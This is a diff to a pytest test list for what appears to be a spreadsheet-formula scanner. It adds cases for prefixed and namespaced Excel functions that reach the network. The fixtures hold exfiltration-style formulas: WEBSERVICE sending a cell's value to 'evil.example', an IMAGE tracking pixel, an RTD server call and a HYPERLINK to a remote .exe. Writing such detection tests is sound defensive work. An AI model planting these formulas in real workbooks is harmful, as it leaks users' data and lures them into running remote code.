@@ -369,6 +369,11 @@ def _cover_with(data: bytes, cell: str = "", after_data: str = "", defined: str 
 @pytest.mark.parametrize(("formula", "named"), [
     ('_xlfn.WEBSERVICE("https://evil.example/?q="&amp;B3)', "WEBSERVICE"),
     ("webservice(B3)", "WEBSERVICE"),
+    # any number of Excel's prefixes, and namespaced names (found by a fresh attack)
+    ('_xlfn._xlws.WEBSERVICE("https://evil.example/")', "WEBSERVICE"),
+    ('COM.MICROSOFT.WEBSERVICE("https://evil.example/")', "WEBSERVICE"),
+    ('_xlfn.STOCKHISTORY("MSFT",B3)', "STOCKHISTORY"),
+    ('_xlfn._xlws.PY(0,B3)', "PY"),
     ('_xlfn.IMAGE("https://evil.example/pixel.png")', "IMAGE"),
     ('RTD("evil.server",,"topic")', "RTD"),
     ('HYPERLINK("file://///finance-srv/icp/run.exe","Open")', "HYPERLINK"),
